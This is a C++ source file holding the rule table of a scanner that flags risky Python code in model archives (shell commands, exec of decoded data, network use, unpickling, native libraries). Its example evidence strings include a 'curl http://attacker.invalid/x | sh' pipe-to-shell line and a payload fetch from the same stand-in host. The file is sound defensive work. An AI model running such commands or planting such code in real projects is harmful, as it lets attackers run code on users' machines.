#include "analyzers/python/rules.h"

#include <array>

namespace mg::python {
namespace {

constexpr std::array kRules = {
    RuleInfo{rule::kSource, Severity::kMedium, "Python source file",
             "A Python module (.py, .pyw) sits in the model or in one of its archives. It is "
             "code: transformers runs it when a model is loaded with trust_remote_code=True and "
             "a config's auto_map names it, and any import from a folder on sys.path runs it. "
             "Review it or remove it. Low for a module with no code at all (an empty "
             "__init__.py). The calls it makes that run commands or code, use the network, "
             "deserialize or load native code are reported separately, with line numbers.",
             "modeling_custom.py: 212 lines; 1 dangerous use (line 7: os.system)."},
    RuleInfo{rule::kBytecode, Severity::kMedium, "Compiled Python file",
             "A compiled module (.pyc, .pyo) sits in the model. Python imports it like source "
             "(a .pyc in a folder on sys.path is imported without its source), and its code "
             "cannot be reviewed by reading it. The code object is not decoded; identifiers "
             "such as os, system or socket seen in it are listed in the evidence.",
             "CPython 3.11 bytecode (magic 3495, timestamp); names seen: os, system."},
    RuleInfo{rule::kRunsCommand, Severity::kHigh, "Python code runs a command",
             "The module calls (or takes a reference to) a function that starts a program or a "
             "shell: os.system, os.popen, os.exec*, os.spawn*, subprocess.*, pty.spawn, "
             "asyncio.create_subprocess_*. Names are resolved through the file's imports; "
             "comments and string literals never match.",
             "line 7: os.system('curl http://attacker.invalid/x | sh')"},
    RuleInfo{rule::kRunsCode, Severity::kHigh, "Python code runs other code",
             "The module calls exec, eval, compile, __import__, importlib.import_module, "
             "runpy.run_*, or builds functions from code objects. The code run is not in the "
             "file to be read; when the call's arguments decode data (base64, zlib, hex) the "
             "message says so: that is how payloads are hidden.",
             "line 3: exec(base64.b64decode('aW1wb3J0IG9z...')) (runs decoded data)"},
    RuleInfo{rule::kNetwork, Severity::kHigh, "Python code uses the network",
             "The module opens sockets or fetches URLs (socket, urllib, requests, httpx, "
             "http.client, ftplib, smtplib, webbrowser). Model code has no reason to; it can "
             "download a payload or send data away.",
             "line 12: requests.get('http://attacker.invalid/stage2')"},
    RuleInfo{rule::kDeserialize, Severity::kHigh, "Python code deserializes objects",
             "The module unpickles or unmarshals data (pickle, marshal, dill, cloudpickle, "
             "joblib.load, shelve, yaml.unsafe_load, torch.load), which can run code chosen "
             "by whoever wrote the data.",
             "line 30: pickle.loads(blob)"},
    RuleInfo{rule::kNativeCode, Severity::kHigh, "Python code loads native code",
             "The module uses ctypes or cffi, which load shared libraries and call into them "
             "outside Python's control.",
             "line 4: ctypes.CDLL('./libpayload.so')"},
    RuleInfo{rule::kUnreadable, Severity::kMedium, "Python source not fully read",
             "The source could not be tokenized to the end (an unterminated string, f-strings "
             "nested too deep, a file over 8 MiB or over 1 million tokens). Uses before the "
             "problem are reported; the rest of the file was not checked, so it is "
             "`incomplete`.",
             "unterminated string starting on line 40."},
    RuleInfo{rule::kMalformedBytecode, Severity::kMedium, "Compiled Python header unusable",
             "A .pyc/.pyo file whose header is truncated, carries a magic number of no known "
             "CPython release, sets flag bits PEP 552 does not define, or is not followed by "
             "a code object. CPython refuses it; another loader may not. It is `incomplete`.",
             "magic number 4242 belongs to no known CPython release."},
};

}  // namespace

std::span<const RuleInfo> Rules() { return kRules; }

}  // namespace mg::python
